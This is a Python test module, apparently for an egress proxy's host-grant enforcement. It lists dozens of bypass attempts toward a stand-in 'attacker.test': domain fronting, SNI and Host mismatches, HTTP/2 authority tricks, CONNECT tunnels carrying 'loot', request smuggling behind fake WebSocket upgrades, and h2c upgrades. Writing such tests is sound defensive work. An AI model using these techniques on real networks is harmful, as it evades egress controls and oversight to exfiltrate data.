"""Another host than the one that was granted, said in one place and meant in another."""

import h2
from inside import Family

family = Family("hosts", __doc__, http1=True)


@family.attack()
def not_granted(t):
    t.request("attacker.test", f"/{t.mark}")


@family.attack()
def not_granted_plain(t):
    t.request("attacker.test", f"/{t.mark}", port=80, plain=True)


@family.attack()
def granted_but_plain(t):
    """Its grant is for TLS."""
    t.request("open.test", f"/pub/{t.mark}", port=80, plain=True)


@family.attack()
def host_header(t):
    """Domain fronting: TLS to one, the request for another."""
    t.request("open.test", f"/pub/{t.mark}", host="attacker.test")


@family.attack()
def host_header_granted(t):
    """The other one is granted too, with other rules."""
    t.request("open.test", f"/pub/{t.mark}", host="wide.test")


@family.attack()
def sni(t):
    t.request("open.test", f"/pub/{t.mark}", host="attacker.test", sni="attacker.test")


@family.attack()
def sni_and_right_host(t):
    t.request("open.test", f"/pub/{t.mark}", sni="attacker.test")


@family.attack()
def no_sni(t):
    t.request("open.test", f"/pub/{t.mark}", sni=None)


@family.attack()
def no_host(t):
    t.raw("open.test", f"GET /pub/{t.mark} HTTP/1.1\r\nConnection: close\r\n\r\n")


@family.attack()
def two_hosts(t):
    t.request("open.test", f"/pub/{t.mark}", [("Host", "attacker.test")])


@family.attack()
def host_with_userinfo(t):
    t.request("open.test", f"/pub/{t.mark}", host="open.test@attacker.test")


@family.attack()
def host_other_port(t):
    t.request("open.test", f"/pub/{t.mark}", host="open.test:8443")


@family.attack()
def host_list(t):
    t.request("open.test", f"/pub/{t.mark}", host="open.test, attacker.test")


@family.attack()
def absolute_target(t):
    t.request("open.test", f"https://attacker.test/pub/{t.mark}")


@family.attack()
def absolute_other_scheme(t):
    t.request("open.test", f"http://open.test/pub/{t.mark}")


@family.attack()
def second_request(t):
    """On a connection that was fine so far."""
    first = "GET /pub/first HTTP/1.1\r\nHost: open.test\r\n\r\n"
    t.raw("open.test", [first, f"GET /pub/{t.mark} HTTP/1.1\r\nHost: attacker.test\r\nConnection: close\r\n\r\n"])


@family.attack()
def connect_method(t):
    t.raw("open.test", f"CONNECT attacker.test:443 HTTP/1.1\r\nHost: attacker.test:443\r\nx-mark: {t.mark}\r\n\r\n")


@family.attack()
def h2_authority(t):
    t.h2("open.test", t.pseudo("attacker.test", f"/pub/{t.mark}"))


@family.attack()
def h2_authority_granted(t):
    """Coalescing: the certificate may be for both, the connection was judged for one."""
    t.h2("open.test", t.pseudo("wide.test", f"/pub/{t.mark}"))


@family.attack()
def h2_host_differs(t):
    t.h2("open.test", [*t.pseudo("open.test", f"/pub/{t.mark}"), ("host", "attacker.test")])


@family.attack()
def h2_two_authorities(t):
    t.h2("open.test", [*t.pseudo("open.test", f"/pub/{t.mark}"), (":authority", "attacker.test")])


@family.attack()
def h2_no_authority(t):
    t.h2("open.test", [(":method", "GET"), (":scheme", "https"), (":path", f"/pub/{t.mark}")])


@family.attack()
def h2_scheme(t):
    t.h2("open.test", t.pseudo("open.test", f"/pub/{t.mark}", scheme="http"))


@family.attack()
def h2_second_stream(t):
    one = h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, h2.pack(t.pseudo("open.test", "/pub/first")))
    two = h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 3, h2.pack(t.pseudo("attacker.test", f"/pub/{t.mark}")))
    t.frames("open.test", one, two)


@family.attack()
def h2_connect(t):
    t.h2("open.test", [(":method", "CONNECT"), (":authority", f"{t.mark}.attacker.test:443")], b"loot")


@family.attack()
def h2_extended_connect(t):
    t.h2("open.test", [*t.pseudo("open.test", f"/pub/ws/{t.mark}", "CONNECT"), (":protocol", "websocket")], b"loot")


@family.attack()
def h2_sni(t):
    t.h2("open.test", t.pseudo("attacker.test", f"/pub/{t.mark}"), sni="attacker.test")


@family.attack()
def h2_other_path(t):
    """The rules are per stream."""
    t.h2("open.test", t.pseudo("open.test", f"/secret/{t.mark}"))


@family.attack()
def sni_of_another_grant(t):
    """Both are granted, and what may be asked of them differs."""
    t.request("open.test", f"/secret/{t.mark}", host="wide.test", sni="wide.test")


@family.attack()
def sni_below(t):
    t.request("open.test", f"/pub/{t.mark}", host="open.test.attacker.test", sni="open.test.attacker.test")


@family.attack()
def sni_with_dot(t):
    t.request("open.test", f"/pub/{t.mark}", host="attacker.test.", sni="attacker.test.")


@family.attack()
def host_with_dot(t):
    """The same name to most, a host of its own to some."""
    t.request("open.test", f"/pub/{t.mark}", host="attacker.test.")


@family.attack()
def host_empty(t):
    t.raw("open.test", f"GET /pub/{t.mark} HTTP/1.1\r\nHost:\r\n\r\n")


@family.attack()
def host_underscored(t):
    """`Host` and a header that some take for it."""
    t.request("open.test", f"/pub/{t.mark}", [("Host_", "attacker.test"), ("Ho\xadst", "attacker.test")])


@family.attack()
def absolute_target_other_path(t):
    t.request("open.test", f"https://open.test/secret/{t.mark}")


@family.attack()
def alpn_says_other(t):
    """HTTP/1.1 was agreed on, HTTP/2 is spoken."""
    frames = h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, h2.pack(t.pseudo("open.test", f"/secret/{t.mark}")))
    with t.tls("open.test", alpn=("http/1.1",)) as s:
        s.sendall(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + frames)
        t.drain(s, 2)


@family.attack()
def alpn_unknown(t):
    """A protocol that nobody here speaks, and then a request after all."""
    with t.tls("open.test", alpn=("acme-tls/1",)) as s:
        s.sendall(f"GET /pub/{t.mark} HTTP/1.1\r\nHost: open.test\r\n\r\n".encode())
        t.drain(s, 2)


@family.attack()
def websocket_that_is_none(t):
    """The host does not switch; who believes the request passes the next one unread."""
    t.raw("ws.test", "GET /pub/x HTTP/1.1\r\nHost: ws.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                     "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
                     f"GET /secret/{t.mark} HTTP/1.1\r\nHost: ws.test\r\n\r\n")


@family.attack()
def websocket_other_protocol(t):
    """The grant is for WebSocket."""
    t.request("ws.test", f"/pub/{t.mark}", [("Upgrade", "h2c, websocket"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")])


family["websocket-other-protocol"].effect = "header:upgrade"


@family.attack()
def websocket_by_post(t):
    t.request("ws.test", f"/pub/{t.mark}", [("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"),
                                             ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")], "POST", b"loot")


family["websocket-by-post"].effect = "header:upgrade"


@family.attack("bytes")
def no_http(t):
    """Bytes of another protocol to a host of HTTP."""
    t.raw("open.test", f"HELO {t.mark}\r\nMAIL FROM:<{t.mark}>\r\n", wait=2)


@family.attack("bytes")
def no_http_plain(t):
    t.raw("open.test", f"SSH-2.0-{t.mark}\r\n", plain=True, port=80, wait=2)


@family.attack("bytes")
def other_port(t):
    """A granted host, another port."""
    with t.dial("open.test", 8443) as s:
        s.sendall(t.mark.encode())


@family.attack("bytes")
def waits_for_the_server(t):
    """A client that is silent at first (as for mail or a database) and then says all."""
    with t.dial("attacker.test", 7) as s:
        s.settimeout(2)
        try:
            s.recv(1)
        except OSError:
            pass
        s.sendall(t.mark.encode())
        t.drain(s, 1)


@family.attack()
def websocket(t):
    """No grant says websocket."""
    t.request("open.test", f"/pub/ws/{t.mark}", [("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"),
                                                 ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")])


family["websocket"].effect = "header:upgrade"


@family.attack()
def h2c_upgrade(t):
    """Past a proxy that lets the connection become another protocol."""
    t.request("open.test", f"/pub/{t.mark}", [("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")])


family["h2c-upgrade"].effect = "header:upgrade"
